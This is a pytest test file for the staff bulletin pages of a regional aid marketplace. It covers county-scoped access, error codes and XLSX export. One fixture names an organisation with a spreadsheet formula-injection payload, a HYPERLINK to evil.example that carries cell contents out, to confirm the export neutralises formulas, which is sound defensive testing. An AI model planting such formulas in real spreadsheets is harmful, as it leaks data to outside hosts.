"""The bulletin pages: staff read the bulletins of their scope (a township's staff their county's), anyone else's
answers 404 as a month never generated; a month not written YYYY-MM is a clear 422, never a 500; the XLSX
opens, has a sheet per section, carries no live formula and is logged; the English page has no Chinese but
place and organisation names."""

import html as html_module
import io
import re
from datetime import date

import pytest
from bulletin_world import at, entry, move_need
from openpyxl import load_workbook
from sqlalchemy import select

from marketplace.bulletins import generate
from marketplace.bulletins.period import Month
from marketplace.organizations.models import Organization
from marketplace.security.models import SecurityEvent
from marketplace.transparency.labels import MEASURES
from support import login

MARCH = Month(date(2025, 3, 1))
FORMULA_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HAN = re.compile(r"[\u3400-\u9fff]")
POSTED = MEASURES["posted"]  # the shared label (transparency/labels.py)


@pytest.fixture
def bulletins(world, tx):
    """Bulletins of February and March 2025 for 涡阳县, of March for 蒙城县 and 亳州市; in March an organisation
    whose name is a formula delivered aid in 涡阳县 and a need was verified."""
    with tx() as s:
        rogue = Organization(name=FORMULA_ORG, uscc="51341621MJ0000009X", region_code="341621", status="approved")
        s.add(rogue)
        s.flush()
        rogue_id = rogue.id
    household = world.household("341621100", "dibao", hardships=["重病"])
    entry(tx, household.id, date(2025, 3, 9), source="charity", amount_fen=123456, organization_id=rogue_id)
    need = world.need("verified", category="education")
    move_need(tx, need.id, posted=at(date(2025, 3, 2)), claimed=at(date(2025, 3, 3)), verified=at(date(2025, 3, 9)))
    with tx() as s:
        generate.generate(s, "341621", MARCH.previous)
        for code in ("341621", "341622", "341600"):
            generate.generate(s, code, MARCH)
    return rogue_id


def _links(html: str) -> list[str]:
    return re.findall(r'href="(/staff/bulletins/[^"]+)"', html)


def test_county_staff_read_their_county_only(client, bulletins):
    login(client, "poster@guoyang.gov.cn")
    listing = client.get("/staff/bulletins")
    assert listing.status_code == 200
    links = _links(listing.get_data(as_text=True))
    # Newest first, each with its page and its XLSX; nothing of 蒙城县 or of the city.
    assert links == ["/staff/bulletins/341621/2025-03", "/staff/bulletins/341621/2025-03.xlsx",
                     "/staff/bulletins/341621/2025-02", "/staff/bulletins/341621/2025-02.xlsx"]
    page = client.get("/staff/bulletins/341621/2025-03")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "亳州市涡阳县" in html and "2025年3月衔接情况通报" in html and "生成时间：" in html
    assert 'href="/static/print.css' in html or "print.css" in html
    for other in ("/staff/bulletins/341622/2025-03", "/staff/bulletins/341600/2025-03",
                  "/staff/bulletins/341622/2025-03.xlsx", "/staff/bulletins/341621/2025-04"):
        assert client.get(other).status_code == 404, other


def test_another_countys_staff_get_404_and_the_city_reads_every_county(client, bulletins):
    login(client, "staff@mengcheng.gov.cn")
    assert client.get("/staff/bulletins/341621/2025-03").status_code == 404
    assert client.get("/staff/bulletins/341621/2025-03.xlsx").status_code == 404
    assert _links(client.get("/staff/bulletins").get_data(as_text=True)) == [
        "/staff/bulletins/341622/2025-03", "/staff/bulletins/341622/2025-03.xlsx"]
    client.post("/logout")
    login(client, "city@bozhou.gov.cn")
    for code in ("341600", "341621", "341622"):
        assert client.get(f"/staff/bulletins/{code}/2025-03").status_code == 200
    assert len(_links(client.get("/staff/bulletins").get_data(as_text=True))) == 8


def test_township_staff_read_their_countys_bulletin(client, bulletins):
    login(client, "chudian@guoyang.gov.cn")
    assert client.get("/staff/bulletins/341621/2025-03").status_code == 200
    assert client.get("/staff/bulletins/341600/2025-03").status_code == 404
    assert "/staff/bulletins/341621/2025-03" in _links(client.get("/staff/bulletins").get_data(as_text=True))


@pytest.mark.parametrize("month", ["2025-13", "2025-3", "abcd", "2025-03-01", "0000-01", "９９９９-01"])
def test_a_month_not_written_yyyy_mm_is_a_clear_422(client, bulletins, month):
    login(client, "poster@guoyang.gov.cn")
    for url in (f"/staff/bulletins/341621/{month}", f"/staff/bulletins/341621/{month}.xlsx"):
        response = client.get(url)
        assert response.status_code == 422, url
        assert "YYYY-MM" in response.get_data(as_text=True)


@pytest.mark.parametrize("region", ["abc", "341621100", "999999", "3416", "34162"])
def test_an_unknown_division_is_404(client, bulletins, region):
    login(client, "city@bozhou.gov.cn")
    assert client.get(f"/staff/bulletins/{region}/2025-03").status_code == 404


def test_only_staff_open_bulletins(client, bulletins):
    assert client.get("/staff/bulletins/341621/2025-03").status_code in (302, 303)  # to the login page
    login(client, "member@charity.org.cn")
    assert client.get("/staff/bulletins").status_code == 403
    assert client.get("/staff/bulletins/341621/2025-03").status_code == 403
    assert client.get("/staff/bulletins/341621/2025-03.xlsx").status_code == 403


def test_changes_from_last_month_and_a_dash_without_one(client, bulletins):
    login(client, "poster@guoyang.gov.cn")
    march = client.get("/staff/bulletins/341621/2025-03").get_data(as_text=True)
    row = re.search(rf"<tr[^>]*><th scope=\"row\">{POSTED}</th>(.*?)</tr>", march, re.S).group(1)
    assert [c.strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)] == ["1", "0", "+1"]
    february = client.get("/staff/bulletins/341621/2025-02").get_data(as_text=True)
    row = re.search(rf"<tr[^>]*><th scope=\"row\">{POSTED}</th>(.*?)</tr>", february, re.S).group(1)
    assert [c.strip() for c in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)] == ["0", "—", "—"]
    assert "上月没有通报" in february


def test_the_xlsx_opens_with_a_sheet_per_section_and_no_formula(client, engine, bulletins):
    login(client, "poster@guoyang.gov.cn")
    response = client.get("/staff/bulletins/341621/2025-03.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["说明", "概况", "需求（按类别）", "帮扶（按来源）", "组织参与"]
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    [rogue] = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert rogue.value == FORMULA_ORG and rogue.data_type == "s"
    organizations = book["组织参与"]
    row = next(r for r in organizations.iter_rows(values_only=True) if r[0] == FORMULA_ORG)
    assert float(row[4]) == 1234.56  # money keeps its fen in the workbook
    summary = {r[0]: r[1:] for r in book["概况"].iter_rows(min_row=2, values_only=True)}
    assert summary[POSTED] == (1, 0, 1)
    with engine.connect() as conn:
        [event] = conn.execute(select(SecurityEvent).where(SecurityEvent.kind == "export")).all()
    assert event.region_code == "341621" and event.detail["month"] == "2025-03" and event.rows > 0


def test_the_english_page_has_no_chinese_but_place_and_organisation_names(client, world, engine, bulletins):
    world.in_english(world.poster)
    login(client, "poster@guoyang.gov.cn")
    for url in ("/staff/bulletins/341621/2025-03", "/staff/bulletins"):
        html = client.get(url).get_data(as_text=True)
        assert '<html lang="en">' in html
        if url.endswith("03"):
            assert "Linkage bulletin" in html or "bulletin" in html.lower()
        text = re.sub(r"<(script|style)[^>]*>.*?</\1>", " ", html, flags=re.S)
        text = html_module.unescape(re.sub(r"<[^>]+>", " ", text))
        with engine.connect() as conn:
            names = [n for (n,) in conn.execute(select(Organization.name))]
        for name in sorted(["亳州市涡阳县", "亳州市", "涡阳县", *names], key=len, reverse=True):
            text = text.replace(name, " ")
        text = text.replace("中文", " ")  # the language switch names Chinese in Chinese
        assert not HAN.search(text), sorted(set(HAN.findall(text)))
    book = load_workbook(io.BytesIO(client.get("/staff/bulletins/341621/2025-03.xlsx").get_data()))
    assert book.sheetnames[1:] == ["Summary", "Needs by category", "Aid by source", "Organisations"]
    cells = " ".join(c for sheet in book for row in sheet.iter_rows(values_only=True) for c in row
                     if isinstance(c, str) and c not in ("亳州市涡阳县", *names))
    assert not HAN.search(cells), sorted(set(HAN.findall(cells)))
